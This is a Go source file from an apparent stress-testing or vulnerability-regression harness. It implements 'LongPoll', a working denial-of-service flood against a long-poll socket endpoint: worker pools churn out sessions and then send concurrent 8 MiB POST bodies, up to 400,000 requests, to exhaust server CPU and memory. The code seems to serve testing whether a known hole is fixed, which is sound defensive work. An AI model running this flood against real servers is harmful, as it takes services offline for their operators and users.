package attack

import (
	"bytes"
	"context"
	"encoding/json"

	"net/http"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"time"
)

// lpSessionWorkers is how many workers of LongPoll create sessions.
const lpSessionWorkers = 8

// LPBodySize is the size of LongPoll's oversized POSTs: 8 MiB, the limit
// the unfixed server accepted whole.
const LPBodySize = 8 << 20

// LongPoll (hole 8) floods LongPoll in two halves of its duration (each
// alone would starve the other of the CPU): first 8 workers (over
// keep-alive connections from 8 source addresses) create sessions as fast
// as the server answers; then 40 workers (Sockets) POST 8 MiB bodies to
// sessions of their own, at once, each pausing 200 ms between POSTs (the
// bodies' concurrency is what costs memory). In all at most Count requests
// (default 400,000). A session is a
// GET answered with JSON status 410 and a token ("session:410"); a refused
// one answers another status. POST answers are recorded as "post:<status>".
func LongPoll(ctx context.Context, t Target, o Options) Result {
	ctx, cancel := o.window(ctx)
	defer cancel()
	rec := newRecorder("longpoll")
	budget := o.count(400_000)
	var sent atomic.Int64
	base := "http://" + t.Addr + "/socket/longpoll?vsn=2.0.0&token="
	d := o.Duration
	if d <= 0 {
		d = DefaultDuration
	}
	first, cancelFirst := context.WithTimeout(ctx, d/2)
	defer cancelFirst()
	var wg sync.WaitGroup
	for w := range lpSessionWorkers {
		wg.Go(func() {
			cl := httpClient(t, w, rec, 1)
			defer cl.CloseIdleConnections()
			// refused sessions are retried ever later (10 ms to 1 s): a
			// server that closes the connection on each refusal would
			// otherwise churn through the address's ports
			b := backoff{min: 10 * time.Millisecond, max: time.Second}
			for first.Err() == nil && sent.Add(1) <= budget {
				_, body := do(first, cl, rec, "session_http", http.MethodGet, base+"user:soak_lp"+strconv.Itoa(w), nil, nil)
				st, ok := lpStatus(body)
				if ok {
					rec.http("session", st)
				}
				if ok && st == 410 {
					b.d = 0
				} else {
					b.wait(first, time.Now(), false)
				}
			}
		})
	}
	wg.Wait()
	posters := min(40, o.sockets(40))
	big := bigLPBody()
	for w := range posters {
		wg.Go(func() {
			cl := httpClient(t, lpSessionWorkers+w, rec, 1)
			defer cl.CloseIdleConnections()
			token := ""
			for ctx.Err() == nil && sent.Add(1) <= budget {
				if token == "" {
					_, body := do(ctx, cl, rec, "session_http", http.MethodGet, base+"user:soak_lpbig"+strconv.Itoa(w), nil, nil)
					token = lpToken(body)
					if token == "" {
						sleepCtx(ctx, 100*time.Millisecond)
						continue
					}
				}
				st, body := do(ctx, cl, rec, "post", http.MethodPost, base+token,
					map[string]string{"Content-Type": "application/x-ndjson"}, big)
				if js, ok := lpStatus(body); ok && st == http.StatusOK && js != 200 {
					rec.http("post_json", js)
				}
				if st != http.StatusOK {
					token = "" // the session may be gone: start another
				}
				sleepCtx(ctx, 200*time.Millisecond)
			}
		})
	}
	wg.Wait()
	return rec.result()
}

// bigLPBody is one text push of LPBodySize bytes (an echo with a huge
// payload), as a LongPoll POST carries it.
func bigLPBody() []byte {
	head := `["1","1","room:soak_lp","echo",{"a":"`
	tail := `"}]`
	var b bytes.Buffer
	b.Grow(LPBodySize)
	b.WriteString(head)
	b.WriteString(strings.Repeat("z", LPBodySize-len(head)-len(tail)))
	b.WriteString(tail)
	return b.Bytes()
}

// lpToken reads a LongPoll answer's session token.
func lpToken(body []byte) string {
	var v struct {
		Token string `json:"token"`
	}
	if json.Unmarshal(body, &v) != nil {
		return ""
	}
	return v.Token
}
